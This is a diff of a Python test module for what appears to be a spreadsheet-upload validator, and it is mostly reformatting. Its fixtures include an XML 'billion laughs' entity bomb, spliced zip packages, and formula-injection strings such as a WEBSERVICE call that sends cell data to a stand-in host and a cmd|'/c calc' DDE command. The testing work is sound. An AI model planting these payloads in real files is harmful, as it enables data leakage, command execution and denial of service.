@@ -21,9 +21,11 @@ LINK = (
     b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
     b"</Relationships>"
 )
-BOMB = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">' + b"".join(
-    b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("k"))
-) + b"]>"
+BOMB = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">'
+    + b"".join(b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("k")))
+    + b"]>"
+)
 
 
 def repacked(planner: bytes, change: Callable[[str, bytes], bytes | None] = lambda name, content: content, added: dict[str, bytes] | None = None) -> bytes:
@@ -40,9 +42,11 @@ def repacked(planner: bytes, change: Callable[[str, bytes], bytes | None] = lamb
 
 def part(name: str, change: Callable[[bytes], bytes]):
     """Only this part changed; it must be there."""
+
     def changing(planner: bytes) -> bytes:
         assert name in zipfile.ZipFile(io.BytesIO(planner)).namelist()
         return repacked(planner, lambda each, content: change(content) if each == name else content)
+
     return changing
 
 
@@ -61,6 +65,7 @@ def other_zip(**parts: bytes):
             for name, content in parts.items():
                 package.writestr(name.replace("__", "/"), content)
         return stream.getvalue()
+
     return made
 
 
@@ -93,6 +98,7 @@ def lying_bomb(planner: bytes) -> bytes:
 
 def _joined(planner: bytes, other: bytes) -> bytes:
     """One package with the parts of both, whatever they say of themselves."""
+
     def pieces(raw: bytes) -> tuple[bytes, bytes, int, int]:
         end = raw.rindex(b"PK\x05\x06")
         count, size, start = struct.unpack_from("<HLL", raw, end + 10)
@@ -165,11 +171,9 @@ def wrong_sum(planner: bytes) -> bytes:
 def filled_rows(rows: int, columns: str, cell: str):
     def more(content: bytes) -> bytes:
         last = max(int(number) for number in re.findall(rb'<row r="(\d+)"', content))
-        added = "".join(
-            f'<row r="{row}">' + "".join(cell.format(column=column, row=row) for column in columns) + "</row>"
-            for row in range(last + 1, last + 1 + rows)
-        )
+        added = "".join(f'<row r="{row}">' + "".join(cell.format(column=column, row=row) for column in columns) + "</row>" for row in range(last + 1, last + 1 + rows))
         return content.replace(b"</sheetData>", added.encode() + b"</sheetData>")
+
     return part("xl/worksheets/sheet2.xml", more)
 
 
@@ -246,15 +250,15 @@ REACHING_OUT: dict[str, tuple[Callable[[bytes], bytes], str]] = {
 }
 
 FORMULAS = {  # typed into an input: these reach out ...
-    "WEBSERVICE(\"http://example.com/\"&A1)": False,
-    "DDE(\"soffice\",\"a.ods\",\"A1\")": False,
+    'WEBSERVICE("http://example.com/"&A1)': False,
+    'DDE("soffice","a.ods","A1")': False,
     "cmd|'/c calc'!A0": False,
     "[1]Sheet1!A1*2": False,
     "'[other book.xlsx]Sheet1'!A1": False,
     "'file:///elsewhere/x.ods'#Sheet1.A1": False,
-    "RTD(\"x\",\"\",\"y\")": False,
+    'RTD("x","","y")': False,
     "6.5*16": True,  # ... and these do not
-    "LEN(\"see http://example.com [1] | CALL(x)\")": True,
+    'LEN("see http://example.com [1] | CALL(x)")': True,
     "Reels!$B$7+1": True,
 }
 
